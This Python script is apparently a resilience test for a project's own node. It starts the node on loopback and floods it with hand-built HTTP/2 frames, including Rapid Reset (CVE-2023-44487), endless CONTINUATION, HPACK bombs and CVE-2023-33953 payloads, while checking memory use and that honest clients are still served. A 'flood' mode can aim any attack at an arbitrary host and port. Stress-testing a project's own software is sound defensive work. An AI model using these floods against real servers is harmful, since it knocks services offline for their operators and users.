#!/usr/bin/env python3
"""Floods of HTTP/2 frames against a real node.

    grpc_floods.py PROGRAM [--seconds S] [--only NAME]… [--at ADDRESS] [--from ADDRESS] [--report]
    grpc_floods.py flood NAME HOST PORT --network HEX [--seconds S] [--connections N]    only the attack, on a node that runs

Starts a tracker on the loopback interface, which has the same transport as every node, and attacks it from another
loopback address with a client that frames HTTP/2 itself (http2_client.py). Meanwhile an honest client calls the node from the
node's address. With the same address for --at and --from, it shares all limits of the flood. Checks, per attack, that the node
lives, that memory stays within bounds, that a flood stops or is cut off, and that the honest client is served. The last line is
a JSON object with all figures. --report only measures and fails for nothing but a node that ended.
"""
import argparse
import json
import multiprocessing
import os
import pathlib
import resource
import struct
import subprocess
import sys
import tempfile
import threading
import time

from http2_client import (CALL, CONTINUATION, DATA, END_HEADERS, END_STREAM, GREETING, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE,
                          Connection, Target, frame, integer, literal, text)

BATCH = 1 << 16
NODE_AT, ATTACKER = "127.0.0.1", "127.0.0.2"
CONNECTIONS = 8
OPEN_CALLS = 32

MOST_MEMORY_MIB = 64  # where gRPC reads without limits up to 890 in a second
LEAST_SERVED = 0.9
MOST_OF_CONNECTION_MIB = 8  # what the buffers of the kernel take from a sender that is held


# ---- Attacks. Each gets a connection and returns what to send again and again, or sends itself.

def repeated(data):
    return data * max(1, BATCH // len(data))


def ping(connection):
    return lambda: repeated(frame(PING, 0, 0, b"12345678"))


def settings(connection):
    sizes = b"".join(struct.pack(">HI", number, value) for number, value in ((1, 0), (1, 4096), (4, 65535), (5, 16384)))
    return lambda: repeated(frame(SETTINGS, 0, 0, sizes))


def window(connection):
    return lambda: repeated(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))


def rapid_reset(connection):
    """CVE-2023-44487. The first call puts its headers into the table; the others are some bytes each."""
    first = connection.target.headers(CALL, indexed=True)
    connection.send(frame(HEADERS, END_HEADERS, connection.next_stream(), first))
    names = bytes(0x80 | 62 + i for i in range(7))[::-1]

    def more():
        out = []
        for _ in range(BATCH // 64):
            stream = connection.next_stream()
            out.append(frame(HEADERS, END_HEADERS, stream, names) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
        return b"".join(out)
    return more


def continuation(connection):
    """A block of headers that never ends."""
    connection.send(frame(HEADERS, 0, connection.next_stream(), literal("a", "b")))
    return lambda: repeated(frame(CONTINUATION, 0, connection.stream - 2, literal("x" * 64, "y" * 900) * 8))


def header_bomb(connection):
    """One entry of almost the whole table, named again and again: a byte becomes 4 KiB."""
    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, connection.next_stream(),
                          connection.target.headers(CALL) + literal("bomb", "z" * 3900, indexed=True)))
    return lambda: frame(HEADERS, END_HEADERS | END_STREAM, connection.next_stream(),
                         connection.target.headers(CALL) + b"\xbe" * 12000)


def hpack_string(connection):
    """CVE-2023-33953: a value that says it has a gigabyte, in frames without end, beyond the limit of metadata."""
    connection.send(frame(HEADERS, 0, connection.next_stream(), b"\x00" + text("long") + integer(1 << 30, 7)))
    return lambda: repeated(frame(CONTINUATION, 0, connection.stream - 2, b"v" * 16000))


def hpack_number(connection):
    """CVE-2023-33953: a number that is padded without end."""
    connection.send(frame(HEADERS, 0, connection.next_stream(), b"\x00\x7f"))
    return lambda: repeated(frame(CONTINUATION, 0, connection.stream - 2, b"\x80" * 16000))


def hpack_resize(connection):
    """CVE-2023-33953: changes of the table's size, each of which may move the table."""
    sizes = (integer(0, 5, 0x20) + integer(4096, 5, 0x20)) * 2000
    connection.send(frame(HEADERS, 0, connection.next_stream(), sizes))
    return lambda: repeated(frame(CONTINUATION, 0, connection.stream - 2, sizes))


def greetings(connection):
    """Calls that are answered, but cost no more than a greeting."""
    def more():
        out = []
        for _ in range(64):
            stream = connection.next_stream()
            out.append(frame(HEADERS, END_HEADERS, stream, connection.target.headers(GREETING)) +
                       frame(DATA, END_STREAM, stream, b"\0\0\0\0\0"))
        return b"".join(out)
    return more


def bodies(connection):
    """As many calls as a node may have open, none of which gets a body."""
    for _ in range(OPEN_CALLS):
        connection.send(frame(HEADERS, END_HEADERS, connection.next_stream(), connection.target.headers(CALL)))
    return None


def handshakes(connection):
    raise ConnectionError("the handshake was all")


ATTACKS = {attack.__name__: attack for attack in (ping, settings, window, rapid_reset, continuation, header_bomb, hpack_string,
                                                   hpack_number, hpack_resize, greetings, bodies, handshakes)}

FLOODS = {"ping", "settings", "window", "rapid_reset", "continuation", "hpack_string", "hpack_number", "greetings"}


class Attacker(threading.Thread):
    def __init__(self, target, attack, context, until, source=ATTACKER):
        super().__init__(daemon=True)
        self.target, self.attack, self.context, self.until, self.source = target, attack, context, until, source
        self.sent = self.opened = self.cut = self.served = 0

    def run(self):
        while time.monotonic() < self.until:
            connection = None
            try:
                connection = Connection(self.target, self.context, self.source)
                self.opened += 1
                more = self.attack(connection)
                while time.monotonic() < self.until:
                    if more is None:
                        time.sleep(0.05)
                    else:
                        connection.send(more())
                    connection.drain()
            except (OSError, ValueError):
                self.cut += 1
            finally:
                if connection:
                    self.sent += connection.sent
                    connection.close()
            if self.attack is not handshakes:
                time.sleep(0.01)


def be_honest(target, context, ended, report):
    """Calls over one connection that it keeps, and over a new one now and then; in a process of its own."""
    kept, calls, served, slowest, errors = None, 0, 0, 0.0, set()
    while not ended.wait(0.15):  # the node answers ten calls a second of one caller
        begun, calls = time.monotonic(), calls + 1
        fresh, connection = calls % 8 == 0, None
        try:
            if fresh or kept is None:
                connection = Connection(target, context, target.at[0])
                if not connection.call(GREETING):
                    raise ConnectionError("no greeting")
                kept = kept if fresh else connection
            ok = (connection if fresh else kept).call()
            served += ok
            errors |= set() if ok else {"refused"}
        except (OSError, ValueError) as error:
            errors.add(str(error))
            kept = kept if fresh else None
        finally:
            if fresh and connection:
                connection.close()
        slowest = max(slowest, time.monotonic() - begun)
    report.send({"served": served, "calls": calls, "slowest": slowest, "errors": sorted(errors)[:3]})


class Honest:
    def __init__(self, target):
        self.ended = multiprocessing.Event()
        self.answers, report = multiprocessing.Pipe(duplex=False)
        self.process = multiprocessing.Process(target=be_honest, args=(target, target.context(), self.ended, report), daemon=True)
        self.process.start()

    def end(self):
        self.ended.set()
        said = self.answers.recv() if self.answers.poll(30) else {"served": 0, "calls": 0, "slowest": 0, "errors": ["no report"]}
        self.process.join(timeout=5)
        return said


class Node:
    def __init__(self, program, folder, at=NODE_AT):
        self.profile = os.path.join(folder, "network.json")
        subprocess.run([program, "network", "create", "--from", "devnet", "--name", "floods", "--out", self.profile],
                       check=True, capture_output=True)
        self.process = subprocess.Popen([program, "tracker", "--json", "--profile", self.profile, "--address", at, "--port", "0"],
                                        stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, cwd=folder,
                                        env={**os.environ, "XDG_DATA_HOME": folder, "HOME": folder})
        self.said = {}
        while "address" not in self.said:
            line = self.process.stdout.readline()
            if not line:
                sys.exit("the node did not start")
            try:
                self.said = {**self.said, **json.loads(line)}
            except ValueError:
                continue
        threading.Thread(target=lambda: [None for _ in self.process.stdout], daemon=True).start()

    def cpu(self):
        words = pathlib.Path(f"/proc/{self.process.pid}/stat").read_text().rsplit(")", 1)[1].split()
        return (int(words[11]) + int(words[12])) / os.sysconf("SC_CLK_TCK")

    def memory(self):
        return int(pathlib.Path(f"/proc/{self.process.pid}/statm").read_text().split()[1]) * resource.getpagesize()

    def alive(self):
        return self.process.poll() is None

    def stop(self):
        self.process.terminate()
        try:
            self.process.wait(timeout=20)
        except subprocess.TimeoutExpired:
            self.process.kill()


def run_attack(program, name, seconds, at=NODE_AT, source=ATTACKER):
    with tempfile.TemporaryDirectory() as folder:
        node = Node(program, folder, at)
        try:
            target = Target(node.said["address"], bytes.fromhex(node.said["network_id"]), folder)
            contexts = [target.context() for _ in range(CONNECTIONS)]
            honest = Honest(target)
            time.sleep(0.3)
            cpu, memory, peak, begun = node.cpu(), node.memory(), node.memory(), time.monotonic()
            until = begun + seconds
            attack = ATTACKS.get(name)
            attackers = [Attacker(target, attack, context, until, source) for context in contexts] if attack else []
            for attacker in attackers:
                attacker.start()
            while time.monotonic() < until and node.alive():
                peak = max(peak, node.memory())
                time.sleep(0.02)
            figures = {"attack": name, "seconds": round(time.monotonic() - begun, 2), "cpu": round(node.cpu() - cpu, 2) if node.alive() else None,
                       "memory_mib": round((peak - memory) / 2**20, 1)}
            for attacker in attackers:
                attacker.join(timeout=10)
            said = honest.end()
            figures.update(sent_mib=round(sum(a.sent for a in attackers) / 2**20, 2), opened=sum(a.opened for a in attackers),
                           cut=sum(a.cut for a in attackers), honest=f"{said['served']}/{said['calls']}",
                           honest_share=round(said["served"] / max(1, said["calls"]), 3), slowest_ms=round(1000 * said["slowest"]),
                           errors=said["errors"], alive=node.alive())
            return figures
        finally:
            node.stop()


def flood(arguments):
    """One attack for so long on a node that another program watches; prints how much of it there was."""
    parser = argparse.ArgumentParser()
    parser.add_argument("name", choices=list(ATTACKS))
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--network", required=True)
    parser.add_argument("--seconds", type=float, default=60)
    parser.add_argument("--connections", type=int, default=2)
    parser.add_argument("--from", default=ATTACKER, dest="source", help="where it comes from")
    a = parser.parse_args(arguments)
    with tempfile.TemporaryDirectory() as folder:
        target = Target(f"{a.host}:{a.port}", bytes.fromhex(a.network), folder)
        until = time.monotonic() + a.seconds
        attackers = [Attacker(target, ATTACKS[a.name], target.context(), until, a.source) for _ in range(a.connections)]
        for attacker in attackers:
            attacker.start()
        for attacker in attackers:
            attacker.join(max(0, until - time.monotonic()) + 10)
    print(json.dumps({"connections": sum(one.opened for one in attackers), "cut": sum(one.cut for one in attackers),
                      "sent_mib": round(sum(one.sent for one in attackers) / 2**20, 2)}))


def faults(figures):
    if not figures["alive"]:
        return ["the node has ended"]
    found = []
    if figures["memory_mib"] > MOST_MEMORY_MIB:
        found.append(f"the node has taken {figures['memory_mib']} MiB")
    if figures["attack"] in FLOODS and figures["sent_mib"] > MOST_OF_CONNECTION_MIB * figures["opened"]:
        found.append(f"the node has let {figures['sent_mib']} MiB of {figures['opened']} connections pass")
    if figures["honest_share"] < LEAST_SERVED:
        found.append(f"the honest client was served {figures['honest']} times: {figures['errors']}")
    return found


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("program")
    parser.add_argument("--seconds", type=float, default=1.0)
    parser.add_argument("--only", action="append", choices=["none", *ATTACKS])
    parser.add_argument("--at", default=NODE_AT, help="where the node listens")
    parser.add_argument("--from", default=ATTACKER, dest="source", help="where the attacks come from")
    parser.add_argument("--report", action="store_true")
    options = parser.parse_args()
    multiprocessing.set_start_method("fork")
    rows, wrong = [], []
    for name in options.only or ["none", *ATTACKS]:
        figures = run_attack(os.path.abspath(options.program), name, options.seconds, options.at, options.source)
        rows.append(figures)
        print(json.dumps(figures), flush=True)
        found = faults(figures)
        wrong += [f"{name}: {fault}" for fault in found if not options.report or not figures["alive"]]
    print(json.dumps({"attacks": rows, "faults": wrong}))
    if wrong:
        sys.exit("\n".join(wrong))


if __name__ == "__main__":
    if sys.argv[1:2] == ["flood"]:
        flood(sys.argv[2:])
    else:
        main()
